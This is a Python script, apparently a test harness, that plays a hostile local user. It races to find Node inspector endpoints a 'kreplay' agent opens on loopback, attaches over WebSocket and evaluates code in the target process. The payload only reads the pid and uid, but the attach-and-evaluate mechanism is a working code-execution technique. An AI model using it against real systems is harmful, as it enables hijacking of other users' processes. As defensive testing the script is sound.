#!/usr/bin/python3
# A hostile local user against the Node inspectors kreplay's agent opens: polls
# http://HOST:PORT/json/list every millisecond (HOST turning through 127.0.0.1, 0.0.0.0,
# ::ffff:127.0.0.1 and ::1, the ways to a loopback listener), and for each target it sees opens
# a WebSocket session and evaluates [process.pid, process.getuid()]. Prints "polling" once started, "LIST url"
# and "SESSION {answer}" for what it got, and at SIGTERM one JSON line of its counts.
# Usage: inspector-poller.py PORT
import base64
import json
import os
import signal
import socket
import sys
import time

PORT = int(sys.argv[1])
HOSTS = [("127.0.0.1", socket.AF_INET), ("0.0.0.0", socket.AF_INET), ("::ffff:127.0.0.1", socket.AF_INET6), ("::1", socket.AF_INET6)]
counts = {"attempts": 0, "refused": 0, "closed": 0, "lists": 0, "sessions": 0}


def connect(host, family):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect((host, PORT))
    except BaseException:
        s.close()
        raise
    return s


def read_http(s):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    return data


def json_list(host, family):
    s = connect(host, family)
    try:
        s.sendall(f"GET /json/list HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\n\r\n".encode())
        data = read_http(s)
        head, _, body = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value.strip())
        while len(body) < length:
            chunk = s.recv(65536)
            if not chunk:
                break
            body += chunk
        return json.loads(body) if body else []
    finally:
        s.close()


def frame(text):
    payload = text.encode()
    mask = os.urandom(4)
    n = len(payload)
    head = bytes([0x81]) + (bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + n.to_bytes(2, "big"))
    return head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))


def evaluate(url, host, family):
    path = "/" + url.split("/", 3)[3]
    s = connect(host, family)
    try:
        key = base64.b64encode(os.urandom(16)).decode()
        s.sendall(
            f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        head = read_http(s)
        if b" 101 " not in head.split(b"\r\n", 1)[0]:
            return None
        buf = head.split(b"\r\n\r\n", 1)[1]
        ask = {"id": 1, "method": "Runtime.evaluate", "params": {"expression": "[process.pid, process.getuid()]", "returnByValue": True}}
        s.sendall(frame(json.dumps(ask)))
        end = time.time() + 3
        while time.time() < end:
            if len(buf) >= 2:
                n, at = buf[1] & 0x7F, 2
                if n == 126:
                    n, at = int.from_bytes(buf[2:4], "big"), 4
                elif n == 127:
                    n, at = int.from_bytes(buf[2:10], "big"), 10
                if len(buf) >= at + n:
                    message, buf = buf[at : at + n], buf[at + n :]
                    try:
                        answer = json.loads(message)
                    except ValueError:
                        continue
                    if answer.get("id") == 1:
                        return answer
                    continue
            chunk = s.recv(65536)
            if not chunk:
                return None
            buf += chunk
        return None
    finally:
        s.close()


def done(*_):
    print(json.dumps(counts), flush=True)
    sys.exit(0)


signal.signal(signal.SIGTERM, done)
print("polling", flush=True)
turn = 0
while True:
    host, family = HOSTS[turn % len(HOSTS)]
    turn += 1
    counts["attempts"] += 1
    try:
        targets = json_list(host, family)
    except PermissionError:
        counts["refused"] += 1
        targets = []
    except OSError:
        counts["closed"] += 1
        targets = []
    except ValueError:
        targets = []
    for target in targets:
        url = target.get("webSocketDebuggerUrl")
        if not url:
            continue
        counts["lists"] += 1
        print("LIST", url, flush=True)
        try:
            answer = evaluate(url, host, family)
        except OSError:
            answer = None
        if answer is not None:
            counts["sessions"] += 1
            print("SESSION", json.dumps(answer), flush=True)
    time.sleep(0.001)
